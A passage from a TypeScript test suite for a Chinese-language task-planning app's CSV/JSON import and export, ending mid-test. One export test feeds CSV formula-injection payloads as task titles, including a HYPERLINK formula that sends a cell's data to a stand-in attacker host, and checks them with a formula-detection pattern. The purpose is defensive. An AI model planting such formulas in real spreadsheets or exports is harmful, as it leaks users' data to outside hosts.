import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { TaskExportService } from '../src/import-export/task-export.service';
import { TaskImportService } from '../src/import-export/task-import.service';
import { ImportFormat } from '../src/import-export/import-format';
import { TASK_COLUMNS } from '../src/import-export/task-row.rules';
import { CREATE_TASK } from './support/admin-fixtures';
import { ADMIN_TOKEN, bootTestApp, expectError, nodeId, TestApp, uniq } from './support/test-app';
import { taskSearchText } from '../src/tasks/search-folding';

const run = promisify(execFile);
const IMPORT = `mutation($input: ImportTasksInput!) { importTasks(input: $input) { created updated unchanged errors { row column message } } }`;
const HEADER = TASK_COLUMNS.join(',');

describe('task import and export', () => {
  let t: TestApp;
  const tokens: Record<string, string> = {};

  /** A fresh plan with two areas, three tasks (one with a sub-task) and an archived task. */
  async function newPlan() {
    const code = `io-${uniq()}`;
    const [{ id }] = await t.ds.query(
      `INSERT INTO plan (code, round, title, period_start, period_end) VALUES ($1, 9, '导入导出测试计划', 2024, 2026) RETURNING id`,
      [code],
    );
    const areas: { id: number; code: string }[] = await t.ds.query(
      `INSERT INTO area (plan_id, ordinal, code, name) VALUES ($1, 1, 'A1', '科技创新'), ($1, 2, 'A2', '交通互联') RETURNING id, code`,
      [id],
    );
    const area = (c: string) => areas.find((a) => a.code === c)!.id;
    const task = async (c: string, f: Record<string, unknown>, regions: string[]) => {
      const [row] = await t.ds.query(
        `INSERT INTO task (plan_id, code, title, title_en, status, progress, area_id, lead_agencies, start_date, due_date, parent_id, archived_at, search_text)
         VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13) RETURNING id`,
        [id, c, f.title, f.titleEn ?? null, f.status ?? 'NOT_REPORTED', f.progress ?? null, f.area ?? null, f.agencies ?? [],
          f.start ?? null, f.due ?? null, f.parent ?? null, f.archived ? new Date() : null, taskSearchText(f.title as string, f.titleEn as string | undefined)],
      );
      for (const r of regions) await t.ds.query('INSERT INTO task_lead_region (task_id, region_code) VALUES ($1, $2)', [row.id, r]);
      return row.id as number;
    };
    const k1 = await task('K-01', { title: '共建长三角科技创新共同体', titleEn: 'Build an innovation community', status: 'IN_PROGRESS', progress: 40,
      area: area('A1'), agencies: ['上海市科委', '江苏省科技厅'], start: '2024-01-01', due: '2026-12-31' }, ['SH', 'JS']);
    await task('K-01-1', { title: '联合攻关"卡脖子"技术, 含逗号', parent: k1, area: area('A1') }, ['ZJ']);
    await task('K-02', { title: '=SUM(A1:A2) 公式样的标题', status: 'COMPLETED', progress: 100, area: area('A2'), due: '2025-06-30' }, ['AH']);
    await task('K-03', { title: '无方面任务\n第二行' }, []);
    await task('K-99', { title: '已归档任务', archived: true }, []);
    return { code, id, area };
  }

  const rest = (method: 'GET' | 'POST', url: string, token: string | null = ADMIN_TOKEN, extra: { payload?: Buffer | string; headers?: Record<string, string> } = {}) =>
    t.app.getHttpAdapter().getInstance().inject({
      method,
      url,
      headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...extra.headers },
      payload: extra.payload,
    });

  const exportCsv = async (plan: string) => {
    const res = await rest('GET', `/export/tasks.csv?plan=${encodeURIComponent(plan)}`);
    expect(res.statusCode).toBe(200);
    return res.body;
  };

  const importTasks = async (planCode: string, content: string, opts: { format?: string; dryRun?: boolean; token?: string } = {}) =>
    t.gql(IMPORT, { input: { planCode, format: opts.format ?? 'CSV', content, dryRun: opts.dryRun ?? false } }, opts.token ?? ADMIN_TOKEN);

  const imported = async (planCode: string, content: string, opts: { format?: string; dryRun?: boolean } = {}) => {
    const res = await importTasks(planCode, content, opts);
    expect(res.errors).toBeUndefined();
    return res.data.importTasks as { created: number; updated: number; unchanged: number; errors: { row: number | null; column: string | null; message: string }[] };
  };

  /** Versions and history counts of a plan's tasks, to show that nothing was written. */
  const snapshot = (planId: number) =>
    t.ds.query(
      `SELECT t.code, t.version, t.title, t.progress, (SELECT count(*)::int FROM task_update u WHERE u.task_id = t.id) AS history
       FROM task t WHERE t.plan_id = $1 ORDER BY t.code`,
      [planId],
    );

  const multipart = (fields: Record<string, string>, file?: { name: string; content: Buffer | string }) => {
    const boundary = `----io${uniq()}`;
    const parts: Buffer[] = Object.entries(fields).map(([k, v]) =>
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`),
    );
    if (file) {
      parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.name}"\r\nContent-Type: text/csv\r\n\r\n`));
      parts.push(Buffer.isBuffer(file.content) ? file.content : Buffer.from(file.content));
      parts.push(Buffer.from('\r\n'));
    }
    parts.push(Buffer.from(`--${boundary}--\r\n`));
    return { payload: Buffer.concat(parts), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
  };

  beforeAll(async () => {
    t = await bootTestApp();
    for (const role of ['ANALYST', 'DASHBOARD']) tokens[role] = await t.keyFor(role);
    tokens.EDITOR = await t.keyFor('EDITOR', ['SH']);
  });
  afterAll(async () => t.close());

  describe('export', () => {
    it('writes CSV with a BOM, the header, one row per live task and sub-task, Chinese text intact', async () => {
      const plan = await newPlan();
      const res = await rest('GET', `/export/tasks.csv?plan=${plan.code}`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="${plan.code}-tasks-\\d{4}-\\d{2}-\\d{2}\\.csv"`));
      const bytes = res.rawPayload;
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(res.body.slice(1).split('\r\n')[0]).toBe(HEADER);
      const records: Record<string, string>[] = parse(res.body, { bom: true, columns: true });
      expect(records.map((r) => r.code)).toEqual(['K-01', 'K-01-1', 'K-02', 'K-03']);
      expect(records[0]).toEqual({
        code: 'K-01', parentCode: '', areaCode: 'A1', title: '共建长三角科技创新共同体', titleEn: 'Build an innovation community',
        status: 'IN_PROGRESS', progress: '40', leadRegions: 'JS|SH', leadAgencies: '上海市科委|江苏省科技厅',
        startDate: '2024-01-01', dueDate: '2026-12-31', version: '1', latestUpdateDate: '',
      });
      expect(records[1]).toMatchObject({ parentCode: 'K-01', title: '联合攻关"卡脖子"技术, 含逗号', leadRegions: 'ZJ' });
      // A cell a spreadsheet would run as a formula is quoted with an apostrophe.
      expect(records[2]).toMatchObject({ title: "'=SUM(A1:A2) 公式样的标题", status: 'COMPLETED', progress: '100', dueDate: '2025-06-30' });
      expect(records[3]).toMatchObject({ title: '无方面任务\n第二行', areaCode: '', leadRegions: '', progress: '' });
    });

    it('writes JSON with the same columns, lists as arrays and the latest update date', async () => {
      const plan = await newPlan();
      const [{ id }] = await t.ds.query(`SELECT id FROM task WHERE plan_id = $1 AND code = 'K-01'`, [plan.id]);
      const upd = await t.gql(`mutation($i: RecordTaskUpdateInput!) { recordTaskUpdate(input: $i) { version } }`, {
        i: { taskId: nodeId('Task', id), expectedVersion: 1, progress: 50, occurredOn: '2025-03-01' },
      });
      expect(upd.errors).toBeUndefined();
      const res = await rest('GET', `/export/tasks.json?plan=${plan.code}`, tokens.ANALYST);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".+\.json"/);
      const doc = JSON.parse(res.body);
      expect(doc).toMatchObject({ planCode: plan.code, columns: [...TASK_COLUMNS] });
      expect(doc.tasks).toHaveLength(4);
      expect(doc.tasks[0]).toEqual({
        code: 'K-01', parentCode: null, areaCode: 'A1', title: '共建长三角科技创新共同体', titleEn: 'Build an innovation community',
        status: 'IN_PROGRESS', progress: 50, leadRegions: ['JS', 'SH'], leadAgencies: ['上海市科委', '江苏省科技厅'],
        startDate: '2024-01-01', dueDate: '2026-12-31', version: 2, latestUpdateDate: '2025-03-01',
      });
      expect(doc.tasks[2].title).toBe('=SUM(A1:A2) 公式样的标题');
    });

    it('keeps a title with line breaks in its own row and no cell a spreadsheet would run, read with a CSV reader', async () => {
      const plan = await newPlan();
      const titles = ['\n=HYPERLINK("http://evil.example/?x="&A1,"点击")', '\r@SUM(1)', 'a\rb\nc\r\nd', ' =1+1', '\t-2', '\u200b+3'];
      for (const [i, title] of titles.entries()) {
        const res = await t.gql(CREATE_TASK, { input: { planCode: plan.code, code: `L-${i}`, title, leadAgencies: ['=危险|机构'.replace('|', '')] } });
        expect(res.errors).toBeUndefined();
      }
      const csv = await exportCsv(plan.code);
      const records: Record<string, string>[] = parse(csv, { bom: true, columns: true });
      expect(records.map((r) => r.code)).toEqual(['K-01', 'K-01-1', 'K-02', 'K-03', ...titles.map((_, i) => `L-${i}`)]);
      const formula = /^[\s\p{Cc}\p{Cf}]*[=+\-@]/u;
      for (const r of records) for (const cell of Object.values(r)) expect(cell).not.toMatch(formula);
      expect(records.slice(4).map((r) => r.title)).toEqual(titles.map((x) => `'${x}`.replace("'a", 'a')));
      expect(await imported(plan.code, csv)).toEqual({ created: 0, updated: 0, unchanged: 4 + titles.length, errors: [] });
    });

    it('reads the rows in one cursor statement on a server, in pages of 100 with one pooled connection', async () => {
      const small = await newPlan();
      const large = await newPlan();
      await t.ds.query(`INSERT INTO task (plan_id, code, title, search_text) SELECT $1, 'S-' || lpad(i::text, 5, '0'), '任务' || i, '任务' || i || E'\\n' FROM generate_series(1, 2500) i`, [large.id]);
      const exports = t.app.get(TaskExportService);
      const read = async (code: string, format: ImportFormat) => {
        const file = await exports.export(code, format);
        const ended = new Promise((r) => file.body.once('close', r));
        await file.body.toArray();
        await ended; // the transaction ends as the stream closes
        await new Promise((r) => setTimeout(r, 100));
      };
      // On a server: the plan lookup, the cursor's transaction with its timeout, and the rows (one statement, fetched in
      // batches). With one pooled connection (PGlite): the plan lookup and one short statement per page of 100.
      const paged = process.env.TEST_DB_KIND === 'pglite';
      for (const format of [ImportFormat.CSV, ImportFormat.JSON]) {
        expect(await t.countStatements(() => read(small.code, format))).toBe(paged ? 2 : 5);
        expect(await t.countStatements(() => read(large.code, format))).toBe(paged ? 1 + Math.ceil(2505 / 100) : 5);
      }
    });

    it('streams a large plan and gives the connection back when the client stops reading halfway', async () => {
      const plan = await newPlan();
      await t.ds.query(`INSERT INTO task (plan_id, code, title, search_text) SELECT $1, 'S-' || lpad(i::text, 5, '0'), '流式导出' || i, '流式导出' || i || E'\\n' FROM generate_series(1, 3000) i`, [plan.id]);
      const exports = t.app.get(TaskExportService);
      for (const format of [ImportFormat.CSV, ImportFormat.JSON, ImportFormat.CSV, ImportFormat.JSON]) {
        const file = await exports.export(plan.code, format);
        for await (const chunk of file.body) {
          expect(chunk.length).toBeGreaterThan(0);
          break; // leaving the loop destroys the stream, as a client going away does
        }
        // With the cursor closed and the connection back in the pool (of one, on PGlite), the next query runs.
        expect(await Promise.race([t.ds.query('SELECT 1 AS one'), new Promise((r) => setTimeout(() => r('stuck'), 5000))])).toEqual([{ one: 1 }]);
      }
      const json = JSON.parse((await rest('GET', `/export/tasks.json?plan=${plan.code}`)).body);
      expect(json.tasks).toHaveLength(3004);
      const empty = (await newPlan()).code;
      await t.ds.query(`UPDATE task SET archived_at = now() WHERE plan_id = (SELECT id FROM plan WHERE code = $1)`, [empty]);
      expect(JSON.parse((await rest('GET', `/export/tasks.json?plan=${empty}`)).body)).toMatchObject({ planCode: empty, tasks: [] });
      expect(parse((await rest('GET', `/export/tasks.csv?plan=${empty}`)).body, { bom: true })).toEqual([[...TASK_COLUMNS]]);
    });

    it('answers an unknown plan with 404, a missing plan with 400, as JSON errors without a stack', async () => {
      const missing = await rest('GET', `/export/tasks.csv?plan=no-such-${uniq()}`);
      expect(missing.statusCode).toBe(404);
      expect(JSON.parse(missing.body)).toEqual({
        errors: [{ message: expect.any(String), extensions: { code: 'NOT_FOUND', what: 'Plan', requestId: missing.headers['x-request-id'] } }],
      });
      for (const url of ['/export/tasks.csv', '/export/tasks.json?plan=', '/export/tasks.csv?plan=a&plan=b']) {
        const res = await rest('GET', url);
        expect(res.statusCode).toBe(400);
        expect(JSON.parse(res.body).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'plan' });
        expect(res.body).not.toMatch(/\bat \S+ \(|node_modules/);
      }
    });

    it('lets ANALYST and ADMIN export and refuses anonymous, DASHBOARD and EDITOR callers', async () => {
      const plan = await newPlan();
      for (const path of ['tasks.csv', 'tasks.json']) {
        const url = `/export/${path}?plan=${plan.code}`;
        expect((await rest('GET', url, tokens.ANALYST)).statusCode).toBe(200);
        expect((await rest('GET', url)).statusCode).toBe(200);
        const anonymous = await rest('GET', url, null);
        expect(anonymous.statusCode).toBe(401);
        expect(JSON.parse(anonymous.body).errors[0].extensions.code).toBe('UNAUTHENTICATED');
        const wrongToken = await rest('GET', url, 'not-a-real-token-0123456789abcdef');
        expect(JSON.parse(wrongToken.body).errors[0].extensions.code).toBe('UNAUTHENTICATED');
        for (const role of ['DASHBOARD', 'EDITOR']) {
          const res = await rest('GET', url, tokens[role]);
          expect(res.statusCode).toBe(403);
          expect(JSON.parse(res.body)).toEqual({ errors: [{ message: expect.any(String), extensions: { code: 'FORBIDDEN', requestId: res.headers['x-request-id'] } }] });
        }
      }
    });
  });

  describe('round trip', () => {
    it('re-imports an unchanged CSV export as 0 created, 0 updated, writing nothing', async () => {
      const plan = await newPlan();
      const before = await snapshot(plan.id);
      expect(await imported(plan.code, await exportCsv(plan.code))).toEqual({ created: 0, updated: 0, unchanged: 4, errors: [] });
      expect(await snapshot(plan.id)).toEqual(before);
    });

    it('re-imports an unchanged JSON export as 0 created, 0 updated', async () => {
      const plan = await newPlan();
      const res = await rest('GET', `/export/tasks.json?plan=${plan.code}`);
      expect(await imported(plan.code, res.body, { format: 'JSON' })).toEqual({ created: 0, updated: 0, unchanged: 4, errors: [] });
    });

    it('changes exactly the edited cells, with one IMPORT history row per changed task', async () => {
      const plan = await newPlan();
      const records: Record<string, string>[] = parse(await exportCsv(plan.code), { bom: true, columns: true });
      records[0].progress = '60';
      records[3].titleEn = 'A task without an area';
      const csv = stringify(records, { header: true, columns: [...TASK_COLUMNS] });
      const before = await snapshot(plan.id);
      expect(await imported(plan.code, csv)).toEqual({ created: 0, updated: 2, unchanged: 2, errors: [] });

      const after = await snapshot(plan.id);
      expect(after.filter((r: { version: number }) => r.version === 2).map((r: { code: string }) => r.code)).toEqual(['K-01', 'K-03']);
      expect(after.find((r: { code: string }) => r.code === 'K-01')).toMatchObject({ progress: 60, history: 1 });
      for (const code of ['K-01-1', 'K-02', 'K-99']) {
        expect(after.find((r: { code: string }) => r.code === code)).toEqual(before.find((r: { code: string }) => r.code === code));
      }
      const history = await t.ds.query(
        `SELECT t.code, u.origin, u.actor_name, u.progress_from, u.progress_to, u.changes FROM task_update u JOIN task t ON t.id = u.task_id
         WHERE t.plan_id = $1 ORDER BY t.code`,
        [plan.id],
      );
      expect(history).toEqual([
        { code: 'K-01', origin: 'IMPORT', actor_name: expect.any(String), progress_from: 40, progress_to: 60, changes: null },
        { code: 'K-03', origin: 'IMPORT', actor_name: expect.any(String), progress_from: null, progress_to: null, changes: { titleEn: [null, 'A task without an area'] } },
      ]);
      const [k3] = await t.ds.query(`SELECT title_en FROM task WHERE plan_id = $1 AND code = 'K-03'`, [plan.id]);
      expect(k3.title_en).toBe('A task without an area');
    });

    it('refuses a changed row whose version is stale, and keeps a stale but unchanged row', async () => {
      const plan = await newPlan();
      const csv = await exportCsv(plan.code);
      // Someone reports on two tasks after the export: a note bumps the version and leaves every cell as it was.
      for (const { id } of await t.ds.query(`SELECT id FROM task WHERE plan_id = $1 AND code IN ('K-01', 'K-02')`, [plan.id])) {
        const upd = await t.gql(`mutation($i: RecordTaskUpdateInput!) { recordTaskUpdate(input: $i) { version } }`, {
          i: { taskId: nodeId('Task', id), expectedVersion: 1, note: '导出之后的进展说明' },
        });
        expect(upd.data.recordTaskUpdate.version).toBe(2);
      }
      const edited = csv.replace('IN_PROGRESS,40', 'IN_PROGRESS,45');
      const before = await snapshot(plan.id);
      const result = await imported(plan.code, edited);
      expect(result).toEqual({
        created: 0, updated: 0, unchanged: 0,
        errors: [{ row: 2, column: 'version', message: expect.stringContaining('now at version 2') }],
      });
      expect(await snapshot(plan.id)).toEqual(before);
      // Without the version column the check is against the version read under lock: the edit goes in.
      const noVersion = edited.replace(/^\uFEFF/, '').split('\r\n').map((line) => line.replace(/,[^,]*,[^,]*$/, '')).join('\r\n');
      expect(noVersion.split('\r\n')[0]).toBe(TASK_COLUMNS.slice(0, -2).join(','));
      expect(await imported(plan.code, noVersion)).toMatchObject({ updated: 1, unchanged: 3, errors: [] });
    });
  });

  describe('import', () => {
    it('creates new tasks at version 1 with regions, agencies and parents listed in any order', async () => {
      const plan = await newPlan();
      const csv = [
        'code,parentCode,areaCode,title,status,progress,leadRegions,leadAgencies,dueDate',
        'N-01-1,N-01,A2,新子任务,,,zj|AH,浙江省交通厅,2026-06-30',
        'N-01,,A1,新任务,completed,,SH,,',
        'N-02,K-01,,挂在旧任务下,IN_PROGRESS,5,,,',
      ].join('\n');
      expect(await imported(plan.code, csv)).toEqual({ created: 3, updated: 0, unchanged: 0, errors: [] });
      const rows = await t.ds.query(
        `SELECT t.code, p.code AS parent, a.code AS area, t.area_basis AS basis, t.status, t.progress, t.version, t.lead_agencies, to_char(t.due_date, 'YYYY-MM-DD') AS due,
           ARRAY(SELECT region_code FROM task_lead_region WHERE task_id = t.id ORDER BY 1) AS regions,
           (SELECT count(*)::int FROM task_update WHERE task_id = t.id) AS history
         FROM task t LEFT JOIN task p ON p.id = t.parent_id LEFT JOIN area a ON a.id = t.area_id
         WHERE t.plan_id = $1 AND t.code LIKE 'N-%' ORDER BY t.code`,
        [plan.id],
      );
      expect(rows).toEqual([
        { code: 'N-01', parent: null, area: 'A1', basis: 'STATED', status: 'COMPLETED', progress: 100, version: 1, lead_agencies: [], due: null, regions: ['SH'], history: 0 },
        { code: 'N-01-1', parent: 'N-01', area: 'A2', basis: 'STATED', status: 'NOT_REPORTED', progress: null, version: 1, lead_agencies: ['浙江省交通厅'], due: '2026-06-30', regions: ['AH', 'ZJ'], history: 0 },
        { code: 'N-02', parent: 'K-01', area: null, basis: 'NOT_STATED', status: 'IN_PROGRESS', progress: 5, version: 1, lead_agencies: [], due: null, regions: [], history: 0 },
      ]);
    });

    it('reports every bad row of a hostile CSV with its row and column, and writes nothing', async () => {
      const plan = await newPlan();
      const csv = [
        'code,areaCode,title,status,progress,leadRegions,startDate,dueDate',
        'H-01,A1,状态错误,DONE,,,,', // 2: wrong enum
        'H-02,A1,进度过大,IN_PROGRESS,150,,,', // 3
        'H-03,A9,未知方面,,,,,', // 4
        'H-04,A1,重复编号,,,,,', // 5
        'H-04,A1,重复编号,,,,,', // 6: duplicate
        'H-05,A1,完成但不足,COMPLETED,50,,,', // 7
        'H-06,A1,日期错误,,,,2024-02-30,', // 8
        'H-07,A1,地区错误,,,SH|XX,,', // 9
        'H-08,A1,,,,,,', // 10: no title
        'H-09,A1,日期颠倒,,,,2025-01-01,2024-01-01', // 11
        'H-10,A1,好的一行,,,,,', // 12: fine
        'H-11,A1,列数不对', // 13
        'K-02,A2,改回进行中,IN_PROGRESS,,,,', // 14: fine: a COMPLETED task may go back, progress cleared
        'K-01,A1,改进度,COMPLETED,80,,,', // 15
        'K-99,A1,已归档,,,,,', // 16
        ',A1,没有编号,,,,,', // 17
      ].join('\r\n');
      const before = await snapshot(plan.id);
      const result = await imported(plan.code, csv);
      expect(result).toMatchObject({ created: 0, updated: 0, unchanged: 0 });
      expect(result.errors.map((e) => [e.row, e.column])).toEqual([
        [2, 'status'], [3, 'progress'], [4, 'areaCode'], [6, 'code'], [7, 'progress'], [8, 'startDate'], [9, 'leadRegions'],
        [10, 'title'], [11, 'dueDate'], [13, null], [15, 'progress'], [16, 'code'], [17, 'code'],
      ]);
      expect(result.errors.find((e) => e.row === 6)!.message).toMatch(/duplicate code H-04.*row 5/);
      expect(result.errors.find((e) => e.row === 4)!.message).toMatch(/unknown area A9/);
      // A child of a bad row is not blamed for its parent; a parent chain that loops back is refused.
      const family = await imported(plan.code, 'code,parentCode,title,progress\nP-1,,父,150\nP-1-1,P-1,子,\nK-01,K-01-1,成环,\nP-2,Q-404,无父,\n');
      expect(family.errors.map((e) => [e.row, e.column])).toEqual([[2, 'progress'], [4, 'parentCode'], [5, 'parentCode']]);
      expect(await snapshot(plan.id)).toEqual(before);
    });

    it('reports broken quoting at the row where reading failed', async () => {
      const plan = await newPlan();
      const before = await snapshot(plan.id);
      const csv = 'code,title\nB-01,好的\nB-02,"没有闭合的引号\nB-03,后面的行\n';
      const result = await imported(plan.code, csv);
      expect(result.errors).toEqual([{ row: 3, column: null, message: expect.stringMatching(/Quote Not Closed/) }]);
      const stray = await imported(plan.code, 'code,title\nB-01,好的\nB-02,a"b\n');
      expect(stray.errors).toEqual([{ row: 3, column: null, message: expect.any(String) }]);
      expect(await snapshot(plan.id)).toEqual(before);
    });

    it('reports an empty file as an error, and accepts a header with no rows as a no-op', async () => {
      const plan = await newPlan();
      for (const content of ['', '\uFEFF', '  \n ']) {
        expect((await imported(plan.code, content)).errors).toEqual([{ row: 1, column: null, message: expect.stringMatching(/empty/) }]);
      }
      expect((await imported(plan.code, '', { format: 'JSON' })).errors).toEqual([{ row: null, column: null, message: expect.stringMatching(/empty/) }]);
      expect(await imported(plan.code, `${HEADER}\r\n`)).toEqual({ created: 0, updated: 0, unchanged: 0, errors: [] });
      expect(await imported(plan.code, 'code,title,colour\n')).toMatchObject({ errors: [{ row: 1, column: 'colour' }] });
      expect(await imported(plan.code, 'code,status\n')).toMatchObject({ errors: [{ row: 1, column: 'title' }] });
    });

    it('checks JSON rows the same way', async () => {
      const plan = await newPlan();
      const doc = {
        tasks: [
          { code: 'J-01', title: '好', progress: 10, leadRegions: ['SH'] },
          { code: 'J-02', title: '坏', progress: 10.5, leadRegions: 'JS|QQ' },
          { code: 'J-03', title: 7, colour: 'red' },
          'not an object',
        ],
      };
      const result = await imported(plan.code, JSON.stringify(doc), { format: 'JSON' });
      expect(result.errors.map((e) => [e.row, e.column])).toEqual([[2, 'progress'], [2, 'leadRegions'], [3, 'colour'], [4, null]]);
      expect((await imported(plan.code, '{"tasks": [', { format: 'JSON' })).errors[0].message).toMatch(/not valid JSON/);
      expect((await imported(plan.code, JSON.stringify({ planCode: 'other', tasks: [] }), { format: 'JSON' })).errors).toEqual([
        { row: null, column: 'planCode', message: expect.stringMatching(/export of plan other/) },
      ]);
      expect(await imported(plan.code, JSON.stringify([{ code: 'J-01', title: '好' }]), { format: 'JSON' })).toMatchObject({ created: 1, errors: [] });
    });

    it('reports what a dry run would do and writes nothing', async () => {
      const plan = await newPlan();
      const csv = (await exportCsv(plan.code)).replace('IN_PROGRESS,40', 'IN_PROGRESS,41') + 'D-01,,A1,新的,,,,,,,,,\r\n';
      const before = await snapshot(plan.id);
      expect(await imported(plan.code, csv, { dryRun: true })).toEqual({ created: 1, updated: 1, unchanged: 3, errors: [] });
      expect(await snapshot(plan.id)).toEqual(before);
      expect(await imported(plan.code, csv)).toEqual({ created: 1, updated: 1, unchanged: 3, errors: [] });
    });

    it('writes nothing for 10,000 rows with one bad row at the end, then creates all 10,000 in one go', async () => {
      const plan = await newPlan();
      const lines = Array.from({ length: 10_000 }, (_, i) => `M-${String(i).padStart(5, '0')},A${(i % 2) + 1},批量任务 ${i},IN_PROGRESS,${i % 101},SH|JS`);
      const good = ['code,areaCode,title,status,progress,leadRegions', ...lines].join('\n');
      const bad = `${good}\nM-bad,A1,坏行,IN_PROGRESS,150,SH`;
      const result = await imported(plan.code, bad);
      expect(result).toEqual({ created: 0, updated: 0, unchanged: 0, errors: [{ row: 10_002, column: 'progress', message: expect.any(String) }] });
      const [{ n }] = await t.ds.query('SELECT count(*)::int AS n FROM task WHERE plan_id = $1', [plan.id]);
      expect(n).toBe(5);

      // The valid file is over the 1 MiB request limit of /graphql, so it goes through the upload route.
      const long = good.replace(/批量任务/g, '长三角一体化高质量发展批量导入的重点任务（跨省协同推进）');
      expect(Buffer.byteLength(long)).toBeGreaterThan(1024 * 1024);
      const upload = await rest('POST', '/import/tasks', ADMIN_TOKEN, multipart({ planCode: plan.code }, { name: 'big.csv', content: long }));
      expect([upload.statusCode, JSON.parse(upload.body)]).toEqual([200, { created: 10_000, updated: 0, unchanged: 0, errors: [] }]);
      const [counts] = await t.ds.query(
        `SELECT count(*)::int AS tasks, count(*) FILTER (WHERE version = 1)::int AS v1,
           (SELECT count(*)::int FROM task_lead_region lr JOIN task x ON x.id = lr.task_id WHERE x.plan_id = $1 AND x.code LIKE 'M-%') AS regions
         FROM task WHERE plan_id = $1 AND code LIKE 'M-%'`,
        [plan.id],
      );
      expect(counts).toEqual({ tasks: 10_000, v1: 10_000, regions: 20_000 });
      // And the export of all that round-trips to nothing.
      const again = await rest('POST', '/import/tasks', ADMIN_TOKEN, multipart({ planCode: plan.code }, { name: 'again.csv', content: await exportCsv(plan.code) }));
      expect(JSON.parse(again.body)).toEqual({ created: 0, updated: 0, unchanged: 10_004, errors: [] });
    });

    it('refuses more rows than the limit, and content over the byte limit, with coded errors', async () => {
      const plan = await newPlan();
      const rows = Array.from({ length: 50_001 }, (_, i) => `L${i},t`);
      const res = await importTasks(plan.code, ['code,title', ...rows].join('\n'));
      expectError(res, 'BAD_USER_INPUT');
      expect(res.errors![0].extensions).toMatchObject({ field: 'content', maxRows: 50_000 });
      const service = t.app.get(TaskImportService);
      await expect(
        service.run({ planCode: plan.code, format: ImportFormat.CSV, content: 'code,title\nX,标题\n', dryRun: false }, { keyId: null, name: 't', role: 'ADMIN', regions: [] }, { maxBytes: 10 }),
      ).rejects.toMatchObject({ code: 'BAD_USER_INPUT', details: { field: 'content', maxBytes: 10 } });
    });

    it('answers an unknown plan with NOT_FOUND', async () => {
      expectError(await importTasks(`no-such-${uniq()}`, 'code,title\nX,t\n'), 'NOT_FOUND');
    });

    it('is for ADMIN only', async () => {
      const plan = await newPlan();
      for (const role of ['ANALYST', 'DASHBOARD', 'EDITOR']) expectError(await importTasks(plan.code, 'code,title\nX,t\n', { token: tokens[role] }), 'FORBIDDEN');
      expectError(await t.gql(IMPORT, { input: { planCode: plan.code, format: 'CSV', content: 'code,title\nX,t\n' } }, null), 'UNAUTHENTICATED');
      const [{ n }] = await t.ds.query('SELECT count(*)::int AS n FROM task WHERE plan_id = $1', [plan.id]);
      expect(n).toBe(5);
    });
  });

  describe('POST /import/tasks', () => {
    it('imports a multipart upload, honouring dryRun and the format', async () => {
      const plan = await newPlan();
      const csv = Buffer.from(`\uFEFFcode,title,leadRegions\r\nU-01,上传的任务,SH\r\n`);
      const dry = await rest('POST', '/import/tasks', ADMIN_TOKEN, multipart({ planCode: plan.code, format: 'CSV', dryRun: 'true' }, { name: 'tasks.csv', content: csv }));
      expect(dry.statusCode).toBe(200);
      expect(JSON.parse(dry.body)).toEqual({ created: 1, updated: 0, unchanged: 0, errors: [] });
      expect(await t.ds.query(`SELECT 1 FROM task WHERE plan_id = $1 AND code = 'U-01'`, [plan.id])).toHaveLength(0);

      const real = await rest('POST', '/import/tasks', ADMIN_TOKEN, multipart({ planCode: plan.code }, { name: 'tasks.csv', content: csv }));
      expect(JSON.parse(real.body)).toEqual({ created: 1, updated: 0, unchanged: 0, errors: [] });
      const json = await rest('GET', `/export/tasks.json?plan=${plan.code}`);
      const again = await rest('POST', '/import/tasks', ADMIN_TOKEN, multipart({ planCode: plan.code, dryRun: 'false' }, { name: 'tasks.json', content: json.body }));
      expect(JSON.parse(again.body)).toEqual({ created: 0, updated: 0, unchanged: 5, errors: [] });
    });

    it('reports a file that is not UTF-8', async () => {
      const plan = await newPlan();
      // "任务" in GBK, as Excel's plain "CSV" saves it on a Chinese system.
      const gbk = Buffer.concat([Buffer.from('code,title\nG-01,'), Buffer.from([0xc8, 0xce, 0xce, 0xf1]), Buffer.from('\n')]);
      const res = await rest('POST', '/import/tasks', ADMIN_TOKEN, multipart({ planCode: plan.code }, { name: 'gbk.csv', content: gbk }));
      expect(JSON.parse(res.body).errors).toEqual([{ row: null, column: null, message: expect.stringMatching(/not UTF-8/) }]);
    });

    it('refuses bad requests and callers with JSON errors', async () => {
      const plan = await newPlan();
      const file = { name: 'tasks.csv', content: 'code,title\nX,t\n' };
      const cases: [string | null, ReturnType<typeof multipart> | { payload: string; headers: Record<string, string> }, number, string][] = [
        [ADMIN_TOKEN, multipart({ format: 'CSV' }, file), 400, 'BAD_USER_INPUT'],
        [ADMIN_TOKEN, multipart({ planCode: plan.code }), 400, 'BAD_USER_INPUT'],
        [ADMIN_TOKEN, multipart({ planCode: plan.code, format: 'XML' }, file), 400, 'BAD_USER_INPUT'],
        [ADMIN_TOKEN, multipart({ planCode: `no-such-${uniq()}` }, file), 404, 'NOT_FOUND'],
        [ADMIN_TOKEN, { payload: '{}', headers: { 'content-type': 'application/json' } }, 400, 'BAD_USER_INPUT'],
        [null, multipart({ planCode: plan.code }, file), 401, 'UNAUTHENTICATED'],
        [tokens.ANALYST, multipart({ planCode: plan.code }, file), 403, 'FORBIDDEN'],
        [tokens.EDITOR, multipart({ planCode: plan.code }, file), 403, 'FORBIDDEN'],
      ];
      for (const [token, body, status, code] of cases) {
        const res = await rest('POST', '/import/tasks', token, body);
        expect([res.statusCode, JSON.parse(res.body).errors?.[0].extensions.code]).toEqual([status, code]);
      }
